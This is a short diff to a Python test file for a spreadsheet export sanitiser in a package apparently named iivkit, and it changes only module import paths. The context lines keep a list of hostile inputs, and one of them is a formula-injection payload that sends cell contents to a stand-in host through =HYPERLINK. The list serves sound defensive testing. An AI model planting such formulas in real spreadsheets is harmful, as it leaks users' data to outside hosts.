@@ -18,7 +18,7 @@ import pytest
 from openpyxl import load_workbook
 
 from iivkit import Contact, Finding, Insight, Interview, OpenQuestion, Organisation, Profile, Workbook
-from iivkit.exports import FORMULA_STARTS, neutralise, neutralise_csv
+from iivkit.workbook.exports import FORMULA_STARTS, neutralise, neutralise_csv
 
 HOSTILE = [
     '=HYPERLINK("https://evil.example/?leak="&A1, "click me")',
@@ -112,7 +112,7 @@ def originals(path: Path) -> list[str]:
                 walk(v)
 
     with Workbook.open(path) as wb:
-        from iivkit.interchange import export_json
+        from iivkit.workbook.interchange import export_json
 
         walk(json.loads(export_json(wb)))
     return out
